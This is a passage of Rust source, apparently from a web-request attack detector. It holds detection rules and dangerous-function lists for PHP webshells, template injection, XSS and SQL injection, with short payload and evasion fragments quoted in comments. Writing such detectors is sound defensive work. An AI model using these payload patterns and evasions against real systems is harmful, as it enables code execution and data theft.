    if mrchr(b' ', stem).is_some() {
        return false;
    }
    // The extension after the last dot, with a version suffix (`php5`).
    let ext = trim_ascii(name.get(dot + 1..).unwrap_or_default());
    let ext_ok = exts.iter().any(|e| {
        starts_with_ci(ext, e.as_bytes())
            && ext
                .get(e.len()..)
                .unwrap_or_default()
                .iter()
                .all(u8::is_ascii_digit)
    });
    if ext_ok && !stem.is_empty() && find(name, b"://", 0).is_none() {
        return true;
    }
    // `x.php.jpg`: Apache runs any file with a `.php` segment.
    if name.contains(&b'/') || name.contains(&b' ') {
        return false;
    }
    let dots = name.iter().filter(|c| **c == b'.').count();
    // Segments strictly between the first and the last dot.
    dots >= 2
        && name
            .split(|c| *c == b'.')
            .skip(1)
            .take(dots - 1)
            .map(trim_ascii)
            .any(|m| exts.iter().any(|e| m.eq_ignore_ascii_case(e.as_bytes())))
}

// ---------------------------------------------------------------------------------------------
// PHP
// ---------------------------------------------------------------------------------------------

mod php {
    use super::*;

    pub const RULES: &[Rule] = &[
        ("php-open-tag", Gate::all(b"<?"), open_tag),
        ("php-function-call", Gate::all(b"("), function_call),
        ("php-variable-function", Gate::all(b"$("), variable_call),
        (
            "php-quoted-callee",
            Gate::all(b"(").any(b")\"']"),
            quoted_name_call,
        ),
        ("php-variable-variable", Gate::all(b"${"), variable_variable),
        (
            "php-serialized-object",
            Gate::all(b":").any(b"\"{"),
            serialized_object,
        ),
        (
            "php-session-file",
            Gate::words(keywords::SESS),
            session_file,
        ),
        ("php-upload", Gate::all(b"."), upload),
    ];

    /// Call flags for words followed by `(`.
    const DISTINCT: u8 = 1;
    const COMMON: u8 = 2;

    /// PHP-only functions (no English or C/Python reading): a call is conclusive.
    #[rustfmt::skip]
    const DISTINCT_FNS: &[&str] = &[
        "phpinfo", "passthru", "shell_exec", "proc_open", "pcntl_exec", "pcntl_fork",
        "fsockopen", "pfsockopen", "base64_decode", "str_rot13", "gzinflate", "gzdecode",
        "gzuncompress", "bzdecompress", "zlib_decode", "convert_uudecode", "create_function",
        "call_user_func", "call_user_func_array", "assert_options", "file_get_contents",
        "file_put_contents", "move_uploaded_file", "highlight_file", "show_source", "php_uname",
        "phpversion", "get_defined_vars", "get_defined_functions", "get_defined_constants",
        "ini_set", "ini_get", "ini_restore", "set_time_limit", "register_shutdown_function",
        "preg_replace", "unserialize", "var_dump", "var_export", "print_r", "curl_exec",
        "curl_init", "file_exists", "escapeshellarg", "escapeshellcmd", "ob_start", "strrev",
        "strip_tags", "intval", "posix_getpwuid", "posix_getuid", "posix_getegid",
        "posix_uname", "mb_ereg_replace", "array_map", "array_filter", "array_walk",
        "array_diff", "is_array", "date_add", "checkdate", "filegroup", "gzopen", "gzread",
        "htmlspecialchars", "rawurldecode", "hex2bin", "str_replace", "gethostbyname",
        "fpassthru", "readfile", "tempnam", "substr",
    ];
    /// Also English words or common C/Python functions: need code-like context.
    #[rustfmt::skip]
    const COMMON_FNS: &[&str] = &[
        "system", "exec", "eval", "assert", "include", "require", "include_once",
        "require_once", "file", "touch", "range", "date", "crypt", "unpack", "pack", "pi",
        "print", "printf", "sprintf", "serialize", "symlink", "link", "copy", "rename", "popen",
        "mail", "header", "extract", "echo", "die", "dl", "leak", "chr", "fopen", "fwrite",
        "fread", "fputs", "fgets", "unlink", "scandir", "glob", "getenv", "putenv", "chmod",
        "getcwd", "opendir", "readdir", "urldecode",
    ];
    /// Snake-case prefixes of PHP extension functions (`pg_`, `ldap_`, `sodium_`, …).
    #[rustfmt::skip]
    const PREFIXES: &[&str] = &[
        "array_", "str_", "preg_", "mb_", "ldap_", "pg_", "odbc_", "mysql_", "mysqli_", "curl_",
        "pcntl_", "zlib_", "sodium_", "openssl_", "date_", "ob_", "ini_", "func_", "session_",
        "apache_", "iconv_", "imap_", "tidy_", "zend_", "dba_", "ftp_", "gmp_", "ctype_",
        "exif_", "msg_", "sem_", "shm_", "var_", "wp_", "spl_", "php_", "opcache_", "oci_",
        "sqlsrv_", "ssh2_", "yaml_", "gz", "bz", "get_defined", "stream_socket",
    ];

    static FUNCTIONS: LazyLock<WordMap> =
        LazyLock::new(|| WordMap::new(&[(DISTINCT_FNS, DISTINCT), (COMMON_FNS, COMMON)]));

    /// `<?` followed by whitespace, `=`, `php`, or the end of the value (`<?xml` is XML unless
    /// a `:` follows, which PHP's short tag then runs).
    fn open_tag(s: &Scan) -> bool {
        let t = s.t;
        s.has(b'<') && s.has(b'?') && {
            let mut from = 0;
            let mut hit = false;
            while let Some(p) = find(t.0, b"<?", from) {
                from = p + 2;
                let n = t.at(p + 2);
                let short =
                    n == 0 || n == b'=' || (n.is_ascii_whitespace() && php_code_follows(t, p + 2));
                let xml_colon =
                    t.starts_ci(p + 2, b"xml") && t.at(t.skip_code_space(p + 5).0) == b':';
                if short || t.starts_ci(p + 2, b"php") || xml_colon {
                    hit = true;
                    break;
                }
            }
            hit
        }
    }

    /// After `<? `: a variable, a statement keyword or a function call (not prose).
    fn php_code_follows(t: Text, i: usize) -> bool {
        let j = t.skip_ws(i);
        let e = t.word_end(j);
        let w = t.slice(j, e);
        t.at(j) == 0
            || matches!(t.at(j), b'$' | b'@' | b'`' | b'(')
            || in_list(
                &[
                    "echo", "print", "php", "if", "foreach", "include", "require", "eval",
                    "system", "exec", "return",
                ],
                w,
            )
            || (e > j && t.at(t.skip_code_space(e).0) == b'(')
    }

    /// A call of a dangerous function, allowing the whitespace/comments PHP's lexer skips
    /// between the name and `(` (`exec/**/(`, `exec #x\n(`).
    fn function_call(s: &Scan) -> bool {
        let t = s.t;
        if !s.has(b'(') {
            return false;
        }
        memchr::memchr_iter(b'(', t.0).any(|paren| {
            callee_before(t, paren).is_some_and(|(start, end, commented)| {
                !t.at(start).is_ascii_digit()
                    && dangerous_call(t, start, t.slice(start, end), paren, commented)
            })
        })
    }

    /// The identifier called by the `(` at `paren`, walking back over whitespace and the
    /// comments PHP allows there (`exec/*x*/(`, `exec //x\n(`, `exec #x\n(`).
    fn callee_before(t: Text, paren: usize) -> Option<(usize, usize, bool)> {
        let mut j = paren;
        let mut commented = false;
        for _ in 0..4 {
            let k = t.skip_back_ws(j);
            if t.before(k) == b'/' && t.before(k - 1) == b'*' {
                let lo = k.saturating_sub(256);
                let open = find_last(t.slice(lo, k - 2), b"/*")?;
                j = lo + open;
                commented = true;
                continue;
            }
            if t.slice(k, j).contains(&b'\n') {
                let line_start = t
                    .slice(k.saturating_sub(256), k)
                    .iter()
                    .rposition(|c| *c == b'\n')
                    .map_or(k.saturating_sub(256), |x| k.saturating_sub(256) + x + 1);
                let line = t.slice(line_start, k);
                let comment = find(line, b"//", 0).or_else(|| mchr(b'#', line));
                if let Some(c) = comment {
                    j = line_start + c;
                    commented = true;
                    continue;
                }
            }
            let mut start = k;
            while start > 0 && is_word(t.before(start)) && k - start < 64 {
                start -= 1;
            }
            return (start < k && !is_word(t.before(start))).then_some((start, k, commented));
        }
        None
    }

    fn dangerous_call(t: Text, start: usize, w: &[u8], paren: usize, commented: bool) -> bool {
        let flags = FUNCTIONS.get(w);
        let glued = w.len() > 6
            && DISTINCT_FNS
                .iter()
                .any(|f| f.len() >= 6 && ends_with_ci(w, f.as_bytes()));
        if flags & DISTINCT != 0 || glued {
            return true;
        }
        let snake = w.len() > 4
            && w.contains(&b'_')
            && PREFIXES.iter().any(|p| starts_with_ci(w, p.as_bytes()));
        if snake {
            return true;
        }
        flags & COMMON != 0 && (commented || (code_before(t, start) && code_args(t, paren + 1, w)))
    }

    /// The name starts the value or directly follows a code character (`;`, `(`, `@`, `=`…).
    fn code_before(t: Text, i: usize) -> bool {
        let j = t.skip_back_ws(i);
        j == 0
            || matches!(
                t.before(i),
                b';' | b'('
                    | b'{'
                    | b'}'
                    | b'@'
                    | b'='
                    | b'!'
                    | b'|'
                    | b'&'
                    | b'>'
                    | b'/'
                    | b'['
                    | b'"'
                    | b'\''
            )
            || matches!(t.before(j), b';' | b'{' | b'}')
    }

    /// Arguments look like code: empty, a variable, a string, or one bare token, and the call
    /// is followed by an end of statement (not `->` prose like "range(stop) -> list").
    fn code_args(t: Text, i: usize, name: &[u8]) -> bool {
        let (j, _) = t.skip_code_space(i);
        let close = match t.at(j) {
            b')' => Some(j),
            b'$' | b'\'' | b'"' | b'`' => return true,
            c if is_word(c) && (!c.is_ascii_digit() || name.eq_ignore_ascii_case(b"chr")) => {
                let e = t.word_end(j);
                let (k, _) = t.skip_code_space(e);
                // A nested call of a known function: `eval(chr(112)…`.
                if t.at(k) == b'(' && FUNCTIONS.get(t.slice(j, e)) != 0 {
                    return true;
                }
                (t.at(k) == b')').then_some(k)
            }
            _ => None,
        };
        close.is_some_and(|c| {
            let (k, _) = t.skip_code_space(c + 1);
            matches!(
                t.at(k),
                0 | b';' | b'.' | b')' | b'?' | b'[' | b'|' | b'&' | b'+' | b'}' | b','
            )
        })
    }

    /// `$f(…)`, `$$f(…)`, `${'a'}(…)`, `$__[o](…)`, `@$x{0}(…)`: calling a variable.
    fn variable_call(s: &Scan) -> bool {
        let t = s.t;
        if !s.has(b'$') || !s.has(b'(') {
            return false;
        }
        memchr::memchr_iter(b'$', t.0).any(|p| {
            let mut j = p + 1;
            while matches!(t.at(j), b'$' | b'@') {
                j += 1;
            }
            let (k, _) = t.skip_code_space(j);
            let name_end = if t.at(k) == b'{' {
                mchr(b'}', t.slice(k, k + 64)).map(|c| k + c + 1)
            } else if t.at(j).is_ascii_alphabetic() || t.at(j) == b'_' {
                Some(t.word_end(j))
            } else {
                None
            };
            name_end.is_some_and(|e| called_after_subscripts(t, e))
        })
    }

    /// After a variable name: optional `[…]`/`{…}` subscripts and `->$m`, then `(`.
    fn called_after_subscripts(t: Text, mut e: usize) -> bool {
        for _ in 0..8 {
            let (n, _) = t.skip_code_space(e);
            let close = match t.at(n) {
                b'(' => return true,
                b'[' => b']',
                b'{' => b'}',
                b'-' if t.at(n + 1) == b'>' && t.at(n + 2) == b'$' => {
                    e = t.word_end(n + 3);
                    continue;
                }
                _ => return false,
            };
            match matching_close(t, n, t.at(n), close) {
                Some(c) => e = c + 1,
                None => return false,
            }
        }
        false
    }

    /// Index of the bracket closing the one at `open_at` (nesting-aware, 64-byte bound).
    fn matching_close(t: Text, open_at: usize, open: u8, close: u8) -> Option<usize> {
        let mut depth = 0usize;
        for (k, &c) in t.slice(open_at, open_at + 64).iter().enumerate() {
            if c == open {
                depth += 1;
            } else if c == close {
                depth = depth.checked_sub(1)?;
                if depth == 0 {
                    return Some(open_at + k);
                }
            }
        }
        None
    }

    /// `(system)('id')`, `"system"(ls)`, `[system][0](ls)`, `('sys'.'tem')('id');`: a call
    /// through a quoted, parenthesised or bracketed callee expression, with code arguments.
    fn quoted_name_call(s: &Scan) -> bool {
        const CALLEES: &[&str] = &[
            "system",
            "exec",
            "passthru",
            "shell_exec",
            "assert",
            "eval",
            "popen",
            "phpinfo",
            "proc_open",
        ];
        let t = s.t;
        if !s.has(b'(') || !s.has_any(b")\"']") {
            return false;
        }
        memchr::memchr_iter(b'(', t.0).any(|p| {
            let j = t.skip_back_ws(p);
            if !matches!(t.before(j), b')' | b'"' | b'\'' | b']' | b'}') || !call_args(t, p + 1) {
                return false;
            }
            // The callee expression: back to a statement boundary, at most 64 bytes.
            let lo = j.saturating_sub(64);
            let expr = t.slice(lo, j);
            let from = expr
                .iter()
                .rposition(|c| matches!(c, b';' | b'\n'))
                .map_or(0, |x| x + 1);
            let expr = expr.get(from..).unwrap_or_default();
            let names = expr.split(|c| !is_word(*c)).any(|w| in_list(CALLEES, w));
            names || string_concat(expr)
        })
    }

    /// Arguments of an indirect call look like code: `('id')`, `(ls);`, `(@id)`, `($x)`.
    fn call_args(t: Text, i: usize) -> bool {
        let (j, _) = t.skip_code_space(i);
        match t.at(j) {
            b'\'' | b'"' | b'$' | b'@' => true,
            c if is_word(c) => {
                let (k, _) = t.skip_code_space(t.word_end(j));
                t.at(k) == b')' && matches!(t.at(t.skip_code_space(k + 1).0), b';' | 0)
            }
            _ => false,
        }
    }

    /// `'sys'.'tem'`, `"a" . "b"`: PHP string concatenation.
    fn string_concat(b: &[u8]) -> bool {
        let t = Text(b);
        memchr::memchr_iter(b'.', b).any(|p| {
            let l = t.before(t.skip_back_ws(p));
            let r = t.at(t.skip_ws(p + 1));
            matches!(l, b'\'' | b'"') && matches!(r, b'\'' | b'"' | b'(')
        })
    }

    /// PHP variable variables `${'name'}`, `$ {$a}`, `${'a'.'b'}`: a string or variable in
    /// `${…}` (bash and templates put a bare name there).
    fn variable_variable(s: &Scan) -> bool {
        let t = s.t;
        s.has(b'$')
            && s.has(b'{')
            && memchr::memchr_iter(b'$', t.0).any(|p| {
                let b = t.skip_ws(p + 1);
                let inner = t.skip_ws(b + 1);
                t.at(b) == b'{'
                    && (matches!(t.at(inner), b'\'' | b'"' | b'$')
                        || (b > p + 1 && t.at(inner).is_ascii_alphabetic()))
            })
    }

    /// PHP `serialize()` output: `O:8:"stdClass":…`, `a:2:{…`, `C:…`.
    fn serialized_object(s: &Scan) -> bool {
        let t = s.t;
        s.has(b':') && s.has_any(b"\"{") && {
            memchr::memchr_iter(b':', t.0).any(|colon| {
                let i = colon.wrapping_sub(1);
                let c = t.at(i);
                if colon == 0 || !matches!(c, b'O' | b'C' | b'a') || is_word(t.before(i)) {
                    return false;
                }
                let mut j = colon + 1;
                while t.at(j).is_ascii_digit() {
                    j += 1;
                }
                let next = t.at(j + 1);
                j > colon + 1
                    && t.at(j) == b':'
                    && ((c != b'a' && next == b'"') || (c == b'a' && next == b'{'))
            })
        }
    }

    /// PHP session files (`sess_<id>`), planted for LFI-to-RCE.
    fn session_file(s: &Scan) -> bool {
        let t = s.t;
        s.word(keywords::SESS) && {
            let mut from = 0;
            let mut hit = false;
            while let Some(p) = find_ci(t.0, b"sess_", from) {
                from = p + 5;
                let mut e = p + 5;
                while t.at(e).is_ascii_alphanumeric() || matches!(t.at(e), b',' | b'-') {
                    e += 1;
                }
                if t.word_start(p) && e - (p + 5) >= 20 && t.at(e) != b'=' {
                    hit = true;
                    break;
                }
            }
            hit
        }
    }

    /// An upload name with an executable PHP extension (`shell.php5`, `x.phtml.`, `a. php`).
    fn upload(s: &Scan) -> bool {
        upload_extension(s, &["php", "phtml", "phar", "pht", "phps", "phpt", "pgif"])
    }
}

// ---------------------------------------------------------------------------------------------
// Template injection
// ---------------------------------------------------------------------------------------------

mod template {
    use super::*;

    pub const RULES: &[Rule] = &[
        ("template-expression", Gate::all(b"{"), expression),
        ("template-erb", Gate::all(b"%<"), erb),
    ];

    /// Server-side template expressions `{{…}}`, `${…}`, `#{…}`, `*{…}`, `{%…%}` whose content
    /// is an expression (operators, calls, attribute access), not a bare placeholder name that
    /// mail-merge text or docs contain.
    fn expression(s: &Scan) -> bool {
        s.has(b'{')
            && (delimited(s.t, b"{{", b"}}")
                || delimited(s.t, b"${", b"}")
                || delimited(s.t, b"#{", b"}")
                || delimited(s.t, b"*{", b"}")
                || delimited(s.t, b"{%", b"%}"))
    }

    fn delimited(t: Text, open: &[u8], close: &[u8]) -> bool {
        let mut from = 0;
        while let Some(p) = find(t.0, open, from) {
            from = p + open.len();
            let window = t.slice(from, from + 256);
            if let Some(end) = find(window, close, 0) {
                let body = trim_ascii(window.get(..end).unwrap_or_default());
                if is_expression(body) && !(open == b"${" && bash_parameter(body)) {
                    return true;
                }
            }
        }
        false
    }

    /// Bash parameter expansion `${VAR:-default}`, `${VAR:=x}`, `${VAR#prefix}`: shell, not
    /// a template (the shell rules judge it).
    fn bash_parameter(b: &[u8]) -> bool {
        let t = Text(b);
        let e = t.word_end(0);
        e > 0
            && (matches!((t.at(e), t.at(e + 1)), (b':', b'-' | b'=' | b'+' | b'?'))
                || matches!(t.at(e), b'#' | b'%' | b'/'))
    }

    /// `<% … %>` / `<%= … %>` with code inside.
    fn erb(s: &Scan) -> bool {
        let t = s.t;
        s.has(b'%') && s.has(b'<') && {
            let mut from = 0;
            let mut hit = false;
            while let Some(p) = find(t.0, b"<%", from) {
                from = p + 2;
                let window = t.slice(from, from + 512);
                if let Some(end) = find(window, b"%>", 0) {
                    let body = trim_ascii(window.get(..end).unwrap_or_default());
                    let body = trim_ascii(body.strip_prefix(b"=").unwrap_or(body));
                    if is_expression(body) || (!body.is_empty() && body.iter().all(|&c| is_word(c)))
                    {
                        hit = true;
                        break;
                    }
                }
            }
            hit
        }
    }

    /// Content with operators or access syntax (`7*7`, `a.b`, `f()`, `x|e`, `'s'`, `[0]`) and
    /// few words; prose inside braces has spaces between many words and no operators.
    fn is_expression(b: &[u8]) -> bool {
        let op = b.iter().any(|c| {
            matches!(
                c,
                b'*' | b'+'
                    | b'('
                    | b'['
                    | b'|'
                    | b'\''
                    | b'"'
                    | b'='
                    | b'<'
                    | b'>'
                    | b'@'
                    | b'~'
                    | b'%'
                    | b'/'
                    | b'-'
            )
        });
        let access = b.windows(2).any(|w| matches!(w, [x, b'.', ..] if is_word(*x) || matches!(x, b')' | b']' | b'\'' | b'"')))
            && b.windows(2).any(|w| matches!(w, [b'.', y] if y.is_ascii_alphabetic() || *y == b'_'));
        let words = b
            .split(u8::is_ascii_whitespace)
            .filter(|w| !w.is_empty())
            .count();
        let alnum = b.iter().filter(|c| c.is_ascii_alphanumeric()).count();
        let price_like = b
            .iter()
            .all(|c| c.is_ascii_digit() || matches!(c, b'.' | b',' | b'-' | b' ' | b'%'));
        (op || access) && words <= 8 && alnum >= 1 && !price_like
    }
}

// ---------------------------------------------------------------------------------------------
// HTML / XSS
// ---------------------------------------------------------------------------------------------

mod html {
    use super::*;

    pub const RULES: &[Rule] = &[
        ("html-libinjection", Gate::all(b"<"), libinjection),
        ("html-event-handler", Gate::all(b"="), event_handler),
        (
            "html-script-scheme",
            Gate::all(b":").any(b"\t\n\r"),
            script_scheme,
        ),
        ("js-nonalnum", Gate::all(b"["), jsfuck),
        (
            "js-tagged-template-call",
            Gate::all(b"`"),
            tagged_template_call,
        ),
        ("js-global-access", Gate::NONE.any(b"[*."), bracket_global),
    ];

    /// libinjection's HTML5 tokenizer, run when the value has a `<`: it decides whether a
    /// tag/attribute can execute script in any of the contexts the value might land in.
    fn libinjection(s: &Scan) -> bool {
        s.has(b'<')
            && !xml_declaration_only(s.t)
            && windows(
                s.t,
                memchr::memchr_iter(b'<', s.t.0).filter(|&p| s.t.at(p + 1) != b'?'),
                8,
            )
            .any(|w| libinjectionrs::detect_xss(w).is_injection())
    }

    /// An `<?xml …?>` declaration alone is not HTML.
    fn xml_declaration_only(t: Text) -> bool {
        memchr::memchr_iter(b'<', t.0).count() == 1 && t.contains_ci(b"<?xml")
    }

    /// ` onerror=`, `"onload =`, `/onmouseover=`: an `on*` attribute breaking out of a quoted
    /// value or tag, with a script-like value.
    fn event_handler(s: &Scan) -> bool {
        let t = s.t;
        if !s.has(b'=') {
            return false;
        }
        let mut from = 0;
        while let Some(p) = find_ci(t.0, b"on", from) {
            from = p + 2;
            let prev = t.before(p);
            let mut e = p + 2;
            while t.at(e).is_ascii_alphabetic() {
                e += 1;
            }
            let eq = t.skip_ws(e);
            if e - p < 5
                || t.at(eq) != b'='
                || !matches!(
                    prev,
                    b'"' | b'\'' | b'/' | b'`' | b';' | b' ' | b'\t' | b'\n' | b'\r' | 0x0b | 0x0c
                )
            {
                continue;
            }
            let v = t.skip_ws(eq + 1);
            let mut k = v;
            while k < t.len() && k < v + 128 && !t.at(k).is_ascii_whitespace() {
                k += 1;
            }
            let val = Text(t.slice(v, k));
            let known = in_list(
                &[
                    "onload",
                    "onerror",
                    "onclick",
                    "onmouseover",
                    "onfocus",
                    "onblur",
                    "onmouseenter",
                    "onanimationstart",
                    "ontoggle",
                    "onpageshow",
                    "onbegin",
                    "onpointerover",
                ],
                t.slice(p, e),
            );
            let scripty = known
                || val.0.contains(&b'(')
                || val.0.contains(&b'`')
                || val.contains_ci(b"javascript")
                || (matches!(val.at(0), b'"' | b'\'')
                    && val.0.iter().any(|c| matches!(c, b'(' | b'.' | b';')));
            let breakout = matches!(prev, b'"' | b'\'' | b'/' | b'`') || s.has_any(b"<\"'");
            if scripty && breakout {
                return true;
            }
        }
        false
    }

    /// `javascript:` / `vbscript:` with tabs, newlines or spaces inside the scheme name
    /// (`ja\tvascript:`), which browsers strip from URLs.
    fn script_scheme(s: &Scan) -> bool {
        let t = s.t;
        s.has(b':')
            && s.has_any(b"\t\n\r")
            && [&b"javascript:"[..], b"vbscript:"].iter().any(|k| {
                let first = k.first().copied().unwrap_or(0);
                memchr::memchr2_iter(first, first.to_ascii_uppercase(), t.0).any(|p| {
                    let mut i = p;
                    k.iter().all(|&c| {
                        while matches!(t.at(i), b'\t' | b'\n' | b'\r') {
                            i += 1;
                        }
                        let ok = t.at(i).eq_ignore_ascii_case(&c);
                        i += 1;
                        ok
                    })
                })
            })
    }

    /// JSFuck / non-alphanumeric JS: `!![]`, `(![]`, `![]+`, `+[]`, `[][`.
    fn jsfuck(s: &Scan) -> bool {
        s.has(b'[')
            && [&b"!![]"[..], b"(![]", b"![]+", b"+[]", b"[]["]
                .iter()
                .any(|k| find(s.t.0, k, 0).is_some())
    }

    /// Tagged template literal calls: `` [].sort.call`…` ``, `` alert`1` ``.
    fn tagged_template_call(s: &Scan) -> bool {
        let t = s.t;
        s.has(b'`')
            && [&b"call"[..], b"apply", b"alert", b"eval", b"prompt"]
                .iter()
                .any(|k| {
                    let mut from = 0;
                    while let Some(p) = find_ci(t.0, k, from) {
                        from = p + k.len();
                        let member = k.starts_with(b"a") && k != b"apply"
                            || t.before(t.skip_back_ws(p)) == b'.';
                        if member && t.word_start(p) && t.at(t.skip_code_space(from).0) == b'`' {
                            return true;
                        }
                    }
                    false
                })
    }

    /// `window["alert"]`, `self[/*x*/"alert"]`, `(document)["cookie"]`,
    /// `document /*x*/ . cookie`: property access on a JS global through brackets or comments.
    fn bracket_global(s: &Scan) -> bool {
        let t = s.t;
        (s.has(b'[') || (s.has(b'*') && s.has(b'/')) || find(t.0, b" .", 0).is_some())
            && s.word(keywords::JS_GLOBAL)
            && {
                [
                    "window",
                    "self",
                    "document",
                    "top",
                    "parent",
                    "frames",
                    "globalthis",
                ]
                .iter()
                .any(|g| {
                    s.each_word(g, |_, e| {
                        let (j, c0) = t.skip_code_space(e);
                        let j = if t.at(j) == b')' { j + 1 } else { j };
                        let (j, c1) = t.skip_code_space(j);
                        let commented = c0 || c1;
                        match t.at(j) {
                            b'[' => matches!(t.at(t.skip_code_space(j + 1).0), b'"' | b'\'' | b'`'),
                            b'.' => {
                                let (k, c2) = t.skip_code_space(j + 1);
                                let prop = t.slice(k, t.word_end(k));
                                (commented || c2 || k > j + 1 || j > e)
                                    && in_list(&["cookie", "location", "domain", "write"], prop)
                            }
                            _ => false,
                        }
                    })
                })
            }
    }
}

// ---------------------------------------------------------------------------------------------
// SQL
// ---------------------------------------------------------------------------------------------

mod sql {
    use super::*;
    use keywords::{
        DECLARE, EXEC, HAVING, ORDER, SELECT, SLEEP, SQL_WORD, STATEMENT, UNION, WAITFOR,
    };

    pub const RULES: &[Rule] = &[
        ("sql-union-select", Gate::words(UNION), union_select),
        ("sql-stacked-statement", Gate::NONE, stacked_statement),
        ("sql-quote-break", Gate::NONE.any(QUOTES), quote_break),
        (
            "sql-quote-comment",
            Gate::NONE.any(QUOTES).any(b"-#/;"),
            quote_comment,
        ),
        ("sql-tautology", Gate::NONE.any(b"=<>#"), tautology),
        ("sql-sleep", Gate::all(b"(").and_words(SLEEP), sleep_call),
        ("sql-waitfor", Gate::words(WAITFOR), waitfor_delay),
        (
            "sql-select-projection",
            Gate::words(SELECT),
            select_projection,
        ),
        (
            "sql-order-by-probe",
            Gate::words(ORDER | HAVING),
            order_by_probe,
        ),
        ("sql-postgres-cast", Gate::all(b":"), postgres_cast),
        (
            "sql-json-operator",
            Gate::all(b"'").any(b"@?#>"),
            json_operator,
        ),
        (
            "sql-mssql",
            Gate::NONE.any(b"@(.").and_words(DECLARE | EXEC),
            mssql,
        ),
        (
            "sql-quoted-comparison",
            Gate::NONE.any(b"'\"").any(b"=<>"),
            quoted_comparison,
        ),
        (
            "sql-quote-trailing-comment",
            Gate::NONE.any(QUOTES).any(b"-#"),
            quote_trailing_comment,
        ),
        ("sql-alias-from", Gate::NONE.any(b")`'\""), alias_from),
        ("sql-from-clause", Gate::NONE.any(b"`="), from_clause),
        ("nosql-operator", Gate::all(b"$"), mongo_operator),
        (
            "sql-bare-comparison",
            Gate::NONE.any(b"=!<>lLiI").any(b"0123456789"),
            bare_comparison,
        ),
        ("sql-function-fragment", Gate::all(b"("), function_fragment),
        ("sql-values-list", Gate::all(b"(").any(b"'\""), values_list),
        (
            "sql-open-quote-keyword",
            Gate::NONE.any(b"'\""),
            open_quote_keyword,
        ),
        ("sql-libinjection", Gate::NONE.any(QUOTES), libinjection),
    ];

    /// `union [all|distinct] select`, tolerating comments and `(` between the words.
    fn union_select(s: &Scan) -> bool {
        let t = s.t;
        s.word(UNION) && (s.word(SELECT) || t.contains_ci(b"values")) && {
            ["union", "except", "intersect"].iter().any(|op| {
                s.each_trigger(op, true, |_, e| {
                    let mut n = t.next_word(skip_parens(t, e));
                    if t.word_is(n, &["all", "distinct"]) {
                        n = n.and_then(|(_, e2)| t.next_word(skip_parens(t, e2)));
                    }
                    t.word_is(n, &["select", "values"])
                })
            })
        }
    }

    fn skip_parens(t: Text, mut i: usize) -> usize {
        loop {
            let (j, _) = t.skip_code_space(i);
            if t.at(j) != b'(' {
                return j;
            }
            i = j + 1;
        }
    }

    /// A second statement after `;` (`; drop table`, `;select *`, `; exec xp_…`,
    /// `; shutdown`), or a destructive statement opening the value with full syntax
    /// (`DROP TABLE x;--`, `INSERT INTO t (…) VALUES`).
    fn stacked_statement(s: &Scan) -> bool {
        let t = s.t;
        // The value opens with a statement word (no longer than 8 bytes) and no comment.
        let s0 = t.skip_ws(0);
        let head = t.slice(s0, s0 + 9);
        let len = head.iter().position(|&c| !is_word(c)).unwrap_or(head.len());
        let opens = (3..=8).contains(&len)
            && in_list(STATEMENT_STARTS, t.slice(s0, s0 + len))
            && t.skip_code_space(0).0 == s0;
        // Without a `;` or a statement word first nothing below succeeds (cheaper to know
        // than the trigger words).
        if !(opens || s.has(b';')) || !s.word(STATEMENT | SELECT | DECLARE | EXEC | WAITFOR) {
            return false;
        }
        let after_semicolon = s.has(b';')
            && memchr::memchr_iter(b';', t.0).any(|i| {
                let n = t.next_word(i + 1);
                // Neither check can pass unless `n` is a statement word.
                if !t.word_is(n, STATEMENT_WORDS) && !t.word_is(n, STATEMENT_STARTS) {
                    return false;
                }
                let after_quote = matches!(t.before(t.skip_back_ws(i)), b'\'' | b'"' | b'`');
                statement(t, n, true) || (after_quote && t.word_is(n, STATEMENT_WORDS))
            });
        after_semicolon || (opens && statement(t, t.next_word(0), false))
    }

    /// The first words [`statement`] can accept.
    const STATEMENT_STARTS: &[&str] = &[
        "drop", "truncate", "alter", "create", "insert", "delete", "declare", "set", "exec",
        "execute", "update", "select", "replace", "shutdown", "waitfor",
    ];

    /// Statement keywords that, right after a closed quote and `;`, start a stacked query.
    const STATEMENT_WORDS: &[&str] = &[
        "select", "insert", "update", "delete", "drop", "exec", "execute", "declare", "set",
        "shutdown", "create", "alter", "truncate", "waitfor", "union", "replace", "grant",
    ];

    fn statement(t: Text, n: Option<(usize, usize)>, after_semicolon: bool) -> bool {
        let Some((_, e)) = n else { return false };
        let next = t.next_word(e);
        let next_end = next.map_or(e, |(_, e2)| e2);
        let w = |words: &[&str]| t.word_is(n, words);
        let nx = |words: &[&str]| t.word_is(next, words);
        let (paren, _) = t.skip_code_space(e);
        if w(&["drop", "truncate", "alter", "create"])
            && nx(&[
                "table",
                "database",
                "procedure",
                "function",
                "view",
                "user",
                "schema",
                "index",
                "trigger",
            ])
        {
            return statement_ends_after_name(t, next_end);
        }
        if w(&["drop", "truncate"]) {
            return statement_ends_after_name(t, e);
        }
        if w(&["insert"]) && nx(&["into"]) {
            return after_semicolon || t.contains_ci(b"values") || t.contains_ci(b"select");
        }
        if w(&["delete"]) && nx(&["from"]) {
            let after = t.next_word(next_end);
            let tail = after.map_or(next_end, |(_, x)| x);
            return after.is_some()
                && (t.word_is(t.next_word(tail), &["where"])
                    || statement_ends_after_name(t, next_end));
        }
        if w(&["declare"]) || w(&["set"]) {
            return t.at(paren) == b'@';
        }
        if w(&["exec", "execute"]) {
            let callee = next.map_or(&b""[..], |(st, en)| t.slice(st, en));
            return t.at(paren) == b'('
                || t.at(paren) == b'@'
                || nx(&["master", "immediate"])
                || starts_with_ci(callee, b"xp_")
                || starts_with_ci(callee, b"sp_");
        }
        if w(&["update"]) {
            // update <table> set <column> =
            let set = t.next_word(next_end);
            let col = set.and_then(|(_, x)| t.next_word(x));
            return t.word_is(set, &["set"])
                && col.is_some_and(|(_, x)| t.at(t.skip_ws(x)) == b'=');
        }
        if !after_semicolon {
            return false;
        }
        if w(&["select"]) {
            return matches!(t.at(paren), b'*' | b'@' | b'(' | b'0'..=b'9')
                || nx(&[
                    "null",
                    "version",
                    "user",
                    "pg_sleep",
                    "sleep",
                    "benchmark",
                    "case",
                    "if",
                    "char",
                    "concat",
                    "load_file",
                ])
                || t.contains_ci(b" from ");
        }
        if w(&["replace"]) {
            return t.contains_ci(b"values");
        }
        w(&["shutdown", "waitfor"])
    }

    /// After the object name at `i` (`users`, `` `db`.`t` ``, `IF EXISTS x`): the statement
    /// ends (`;`, a comment, the value's end) or opens a definition `(`.
    fn statement_ends_after_name(t: Text, i: usize) -> bool {
        let (mut j, _) = t.skip_code_space(i);
        if t.starts_ci(j, b"if") && t.word_is(t.next_word(j + 2), &["exists", "not"]) {
